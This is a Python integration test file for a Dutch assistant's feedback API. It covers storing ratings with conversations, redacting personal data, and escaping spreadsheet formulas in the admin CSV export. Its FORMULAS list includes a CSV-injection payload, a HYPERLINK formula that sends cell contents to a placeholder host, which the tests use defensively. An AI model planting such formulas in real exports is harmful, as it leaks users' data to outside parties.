"""Feedback on answers through a real server, stored with the conversation, and
exported for the administrators."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass

import httpx
import pytest

from assistant.conversations import SqliteConversationStore
from assistant.security.api_keys import KeyStore
from assistant.settings import Settings
from tests.conftest import CORPUS, make_settings
from tests.test_api import server_env, start_server, stop

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    return make_settings(tmp_path_factory.mktemp("feedback"), CORPUS)


@pytest.fixture(scope="module")
def served(settings: Settings) -> Iterator[tuple[str, SqliteConversationStore]]:
    """A server on a data dir without an index: feedback needs only the conversations."""
    store = SqliteConversationStore(settings.conversations_path)
    process, base = start_server(server_env(settings))
    yield base, store
    stop(process)


@dataclass(frozen=True)
class Caller:
    headers: dict[str, str]
    identity: str  # who owns the conversations they start


LOCAL = Caller({}, "single-user")  # the server runs in single-user mode


@pytest.fixture(scope="module")
def admin(settings: Settings) -> Caller:
    """An administrator: the exports need one (the tests that use it send its key with
    the feedback too, so they do not depend on how keyless callers are served)."""
    made, key = KeyStore(settings.api_keys_path).create("beheerder", "admin")
    return Caller({"Authorization": f"Bearer {key}"}, f"key:{made.id}")


def _answer(store: SqliteConversationStore, owner: Caller = LOCAL) -> tuple[str, str]:
    conversation_id = store.create(owner.identity)
    message_id = store.add_exchange(conversation_id, "Vraag?", "Vraag?", "Antwoord [1].", {})
    return conversation_id, message_id


def test_thumbs_and_reported_problems_are_stored_with_the_conversation(served) -> None:
    base, store = served
    conversation_id, message_id = _answer(store)
    up = httpx.post(f"{base}/api/feedback", json={"message_id": message_id, "rating": "up"})
    assert up.status_code == 201
    assert up.json()["conversation_id"] == conversation_id
    problem = httpx.post(
        f"{base}/api/feedback",
        json={
            "message_id": message_id,
            "rating": "down",
            "comment": "  Het antwoord noemt een verkeerde wet.  ",
            "report_problem": True,
        },
    )
    assert problem.status_code == 201
    latest = store.feedback(limit=2)
    assert [f.rating for f in latest] == ["down", "up"]
    assert latest[0].problem and latest[0].comment == "Het antwoord noemt een verkeerde wet."
    assert {f.conversation_id for f in latest} == {conversation_id}


@pytest.mark.parametrize(
    ("payload", "status", "words"),
    [
        ({"message_id": "bestaat-niet", "rating": "up"}, 404, "bestaat niet"),
        ({"message_id": "x"}, 422, "duim"),
        ({"message_id": "x", "rating": "meh"}, 422, "Ongeldige aanvraag"),
        ({"message_id": "x", "comment": "a" * 2001}, 422, "Ongeldige aanvraag"),
    ],
)
def test_bad_feedback_gets_a_clear_dutch_error(served, payload: dict, status: int, words: str):
    base, _ = served
    response = httpx.post(f"{base}/api/feedback", json=payload)
    assert response.status_code == status and words in response.json()["detail"]


def _export(base: str, admin: dict[str, str], fmt: str) -> str:
    response = httpx.get(f"{base}/api/admin/feedback/export", params={"format": fmt}, headers=admin)
    assert response.status_code == 200, response.text
    return response.text


def test_personal_data_in_a_comment_is_stored_and_exported_redacted(
    served, admin: Caller, settings: Settings
) -> None:
    base, store = served
    _, message_id = _answer(store, admin)
    comment = "Mijn BSN is 111222333, mail de uitkomst naar jan.jansen@example.nl graag."
    response = httpx.post(
        f"{base}/api/feedback",
        json={"message_id": message_id, "comment": comment},
        headers=admin.headers,
    )
    assert response.status_code == 201, response.text
    feedback_id = response.json()["feedback_id"]
    redacted = "Mijn BSN is [BSN], mail de uitkomst naar [E-MAILADRES] graag."
    assert {f.id: f.comment for f in store.feedback()}[feedback_id] == redacted
    files = settings.conversations_path.parent.glob("conversations.sqlite*")
    assert not any(b"111222333" in path.read_bytes() for path in files)
    rows = {
        row["id"]: row for row in csv.DictReader(io.StringIO(_export(base, admin.headers, "csv")))
    }
    assert rows[feedback_id]["comment"] == redacted
    lines = [json.loads(line) for line in _export(base, admin.headers, "jsonl").splitlines()]
    assert {line["id"]: line["comment"] for line in lines}[feedback_id] == redacted


# what Excel and LibreOffice would run as a formula; comments arrive stripped, so the
# tab and the carriage return come in the question and answer
FORMULAS = ['=HYPERLINK("https://example.org/?d="&A1,"Klik")', "+1", "-2", "@SUM(A1:A9)"]
BLANK_STARTS = ["\tx", "\rx"]


def test_the_csv_export_writes_formulas_as_text(served, admin: Caller) -> None:
    base, store = served
    sent = {}
    for text in [*FORMULAS, *BLANK_STARTS]:
        conversation_id = store.create(admin.identity)
        message_id = store.add_exchange(conversation_id, text, text, text, {})
        comment = text if text in FORMULAS else None
        body = {"message_id": message_id, "comment": comment, "rating": "down"}
        response = httpx.post(f"{base}/api/feedback", json=body, headers=admin.headers)
        sent[response.json()["feedback_id"]] = text
    rows = {
        row["id"]: row for row in csv.DictReader(io.StringIO(_export(base, admin.headers, "csv")))
    }
    for feedback_id, text in sent.items():
        row = rows[feedback_id]
        assert (row["question"], row["answer"]) == (f"'{text}", f"'{text}")
        assert row["comment"] == (f"'{text}" if text in FORMULAS else "")
    lines = [json.loads(line) for line in _export(base, admin.headers, "jsonl").splitlines()]
    raw = {line["id"]: line for line in lines if line["id"] in sent}
    assert {i: (line["question"], line["comment"]) for i, line in raw.items()} == {
        i: (text, text if text in FORMULAS else None) for i, text in sent.items()
    }
